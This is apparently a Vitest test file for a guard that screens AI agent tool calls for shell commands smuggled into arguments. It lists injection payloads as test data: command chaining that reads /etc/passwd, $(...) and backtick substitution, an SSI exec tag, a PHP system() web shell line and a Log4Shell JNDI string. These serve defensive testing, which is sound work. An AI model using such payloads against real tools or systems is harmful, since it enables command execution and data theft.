import { describe, expect, it } from "vitest";
import { inspect } from "../../api.js";

const call = (args: Record<string, unknown>, tool = "resize_image") => inspect({ tool_name: tool, tool_input: args });

describe("shell injected into another tool's arguments", () => {
  it("blocks a value that closes and starts a command, or server-side code", () => {
    for (const value of ["x.png; id", "x.png|/usr/bin/id", "x.png && cat /etc/passwd", "`whoami`", "$(uname -a)", "x.png%0Aid", "a\\nid", "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->", "<?php system($_GET['c']); ?>", "${jndi:ldap://example.com/a}"]) {
      const v = call({ file: value });
      expect(v.action, value).toBe("block");
      expect(v.findings.some((f) => f.rule === "shell-injection-in-argument"), value).toBe(true);
    }
  });

  it("leaves names, prose fields and shell tools to their own rules", () => {
    for (const value of ["tom & jerry.png", "report; cat.png", "notes | draft.md", "price $5.png", "C:\\\\Users\\\\me\\\\cat.jpg", "a;b;c.csv"]) {
      expect(call({ file: value }).action, value).toBe("allow");
    }
    expect(call({ channel: "dev", body: "run `ls -la` first; then echo done" }, "send_message").action).toBe("allow");
    expect(call({ command: "ls; id" }, "Bash").findings.some((f) => f.rule === "shell-injection-in-argument")).toBe(false);
  });
});
